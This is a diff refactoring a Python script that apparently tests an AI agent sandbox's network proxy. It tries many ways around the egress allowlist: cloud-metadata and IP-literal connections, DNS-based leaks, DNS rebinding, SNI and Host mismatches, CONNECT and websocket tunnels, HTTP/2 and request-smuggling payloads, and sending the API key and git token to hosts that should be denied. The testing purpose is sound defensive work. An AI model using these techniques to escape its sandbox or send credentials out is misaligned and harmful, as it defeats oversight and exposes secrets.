@@ -19,6 +19,7 @@ import time
 from pathlib import Path
 
 ALLOWED, GIT, DENIED = "api.anthropic.com", "git.demo.example", "exfil.demo.example"
+GET = f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n"
 RESULTS = {}
 AGENTS_OWN = "/tmp/cc-socks"  # made inside, by the agent's program
 ERRORS = {
@@ -291,14 +292,11 @@ def sockets_in_files():
     return ", ".join(found) or "none"
 
 
-def main():
-    services = json.loads(sys.argv[1]) if len(sys.argv) > 1 else {}
-    slow = threading.Thread(target=attempt, args=("slow_head", slow_head))
-    slow.start()
-    key, token = os.environ.get("ANTHROPIC_API_KEY", ""), os.environ.get("DEMO_GIT_TOKEN", "")
-    foreign = base64.b64encode(f"x:{key}".encode()).decode()
-    get = f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n"
+# -- what is tried ----------------------------------------------------------------------------------------
 
+
+def try_around_the_proxy():
+    """Addresses, ports and protocols that no rule can name."""
     for name, address in {
         "ipv4_literal": "1.1.1.1", "ipv4_private": "10.0.0.1", "ipv4_host_gateway": "10.88.0.1", "metadata": "169.254.169.254",
     }.items():  # fmt: skip
@@ -325,6 +323,9 @@ def main():
     attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).close() or "opened")
     attempt("interfaces", lambda: ", ".join(sorted(name for _, name in socket.if_nameindex())))
 
+
+def try_names():
+    """What a resolver could carry away, and where an allowed name could lead."""
     attempt("dns_address", dns, "example.com")
     attempt("dns_text", dns, "aGVsbG8.leak.example", 16)
     attempt("dns_https", dns, ALLOWED, 65)
@@ -335,6 +336,9 @@ def main():
     for kind in ("loopback", "private", "link-local", "metadata", "cgnat", "mapped", "ula", "mixed"):
         attempt(f"rebind_{kind}", http, f"{kind}.rebind.example")
 
+
+def try_no_http():
+    """Other protocols on the ports that are open."""
     attempt("raw_tcp_allowed_name", tcp, socket.gethostbyname(ALLOWED), 22, b"SSH-2.0-x\r\n")
     attempt("raw_bytes_on_443", tcp, socket.gethostbyname(ALLOWED), 443, b"SSH-2.0-x\r\n\r\n")
     attempt("raw_bytes_on_80", plain, ALLOWED, b"SSH-2.0-x\r\n\r\n")
@@ -342,6 +346,9 @@ def main():
     attempt("tls_on_80", plain, ALLOWED, b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00")
     attempt("foreign_alpn", tls, ALLOWED, b"", alpn=("ssh",))
 
+
+def try_the_allowlist():
+    """Hosts, paths, methods and bodies that are not named."""
     attempt("denied_host", http, DENIED, "/?a=b")
     attempt("denied_path", http, GIT, "/other.git/info/refs")
     attempt("denied_method", http, GIT, "/read-only/x", method="DELETE")
@@ -357,10 +364,13 @@ def main():
     }.items():  # fmt: skip
         attempt(f"path_{name}", http, GIT, path)
 
+
+def try_names_that_disagree():
+    """One name outside, another one inside."""
     attempt("host_is_not_sni", http, ALLOWED, host=DENIED)
-    attempt("sni_is_not_host", tls, ALLOWED, get.encode() + b"\r\n", sni=DENIED)
-    attempt("no_sni", tls, ALLOWED, get.encode() + b"\r\n", sni=None)
-    attempt("sni_is_an_address", tls, ALLOWED, get.encode() + b"\r\n", sni="1.1.1.1")
+    attempt("sni_is_not_host", tls, ALLOWED, GET.encode() + b"\r\n", sni=DENIED)
+    attempt("no_sni", tls, ALLOWED, GET.encode() + b"\r\n", sni=None)
+    attempt("sni_is_an_address", tls, ALLOWED, GET.encode() + b"\r\n", sni="1.1.1.1")
     attempt(
         "absolute_form", tls, ALLOWED, f"GET https://{DENIED}/ HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n".encode()
     )
@@ -370,7 +380,7 @@ def main():
         ALLOWED,
         f"GET https://{ALLOWED}/ HTTP/1.1\r\nHost: {DENIED}\r\n\r\n".encode(),
     )
-    attempt("two_hosts", tls, ALLOWED, (get + f"Host: {DENIED}\r\n\r\n").encode())
+    attempt("two_hosts", tls, ALLOWED, (GET + f"Host: {DENIED}\r\n\r\n").encode())
     attempt("no_host", tls, ALLOWED, b"GET / HTTP/1.1\r\n\r\n")
     attempt(
         "foreign_host_plain",
@@ -378,6 +388,10 @@ def main():
         GIT,
         f"GET /demo.git/info/refs HTTP/1.1\r\nHost: {DENIED}\r\n\r\n".encode(),
     )
+
+
+def try_tunnels():
+    """What would carry anything at all."""
     attempt(
         "connect", plain, ALLOWED, f"CONNECT {DENIED}:443 HTTP/1.1\r\nHost: {DENIED}:443\r\n\r\n".encode()
     )
@@ -407,6 +421,9 @@ def main():
     attempt("websocket_denied_path", http, GIT, "/other/socket", *socket_key)
     attempt("websocket_denied_host", http, DENIED, "/socket", *socket_key)
 
+
+def try_http2():
+    """The same over HTTP/2."""
     attempt("h2_authority_is_not_sni", h2, ALLOWED, *pseudo(authority=DENIED))
     attempt("h2_host_is_not_authority", h2, ALLOWED, *pseudo(), ("host", DENIED))
     attempt("h2_denied_path", h2, GIT, *pseudo(authority=GIT, path="/other.git/info/refs"))
@@ -436,6 +453,9 @@ def main():
     attempt("h2_scheme", h2, ALLOWED, *pseudo(scheme="ftp"))
     attempt("h2_continuation_flood", continuation_flood)
 
+
+def try_smuggling():
+    """Heads that two parsers read in two ways."""
     smuggled = f"GET / HTTP/1.1\r\nHost: {DENIED}\r\n\r\n"
     for name, lines in {
         "cl_te": ("Content-Length: 5", "Transfer-Encoding: chunked"), "te_te": ("Transfer-Encoding: chunked", "Transfer-Encoding: identity"),
@@ -456,11 +476,20 @@ def main():
     attempt("huge_header", http, ALLOWED, "/", f"X-A: {'b' * 200_000}")
     attempt("many_headers", http, ALLOWED, "/", *(f"X-{index}: a" for index in range(1000)))
 
+
+def try_credentials():
+    """Surrogates where they do not belong."""
+    key, token = os.environ.get("ANTHROPIC_API_KEY", ""), os.environ.get("DEMO_GIT_TOKEN", "")
+    foreign = base64.b64encode(f"x:{key}".encode()).decode()
     attempt("credential_to_another_host", http, GIT, "/demo.git/info/refs", f"Authorization: Bearer {key}")
     attempt("credential_hidden_in_basic", http, GIT, "/demo.git/info/refs", f"Authorization: Basic {foreign}")
     attempt("credential_in_a_cookie", http, GIT, "/demo.git/info/refs", f"Cookie: session={key}")
-    attempt("credential_over_plain_http", plain, ALLOWED, f"{get}X-Api-Key: {key}\r\n\r\n".encode())
+    attempt("credential_over_plain_http", plain, ALLOWED, f"{GET}X-Api-Key: {key}\r\n\r\n".encode())
     attempt("credential_in_a_denied_request", http, DENIED, "/", f"Authorization: Bearer {token or key}")
+
+
+def try_bodies():
+    """Bodies that are judged."""
     attempt(
         "graphql_denied_field",
         http,
@@ -483,10 +512,30 @@ def main():
         body=b"\x1f\x8b",
     )
 
+
+def try_the_host(services):
+    """What listens beside the sandbox."""
     for name, port in services.items():
         attempt(f"service_{name}", tcp, "127.0.0.1", port, b"hello")
-    attempt("our_own_listener", tcp, "127.0.0.1", 15001, get.encode() + b"\r\n")
+    attempt("our_own_listener", tcp, "127.0.0.1", 15001, GET.encode() + b"\r\n")
     attempt("sockets_in_files", sockets_in_files)
+
+
+def main():
+    services = json.loads(sys.argv[1]) if len(sys.argv) > 1 else {}
+    slow = threading.Thread(target=attempt, args=("slow_head", slow_head))
+    slow.start()
+    try_around_the_proxy()
+    try_names()
+    try_no_http()
+    try_the_allowlist()
+    try_names_that_disagree()
+    try_tunnels()
+    try_http2()
+    try_smuggling()
+    try_credentials()
+    try_bodies()
+    try_the_host(services)
     attempt("ten_gigabytes", huge_body)
     attempt("many_connections", many_connections)
     slow.join()
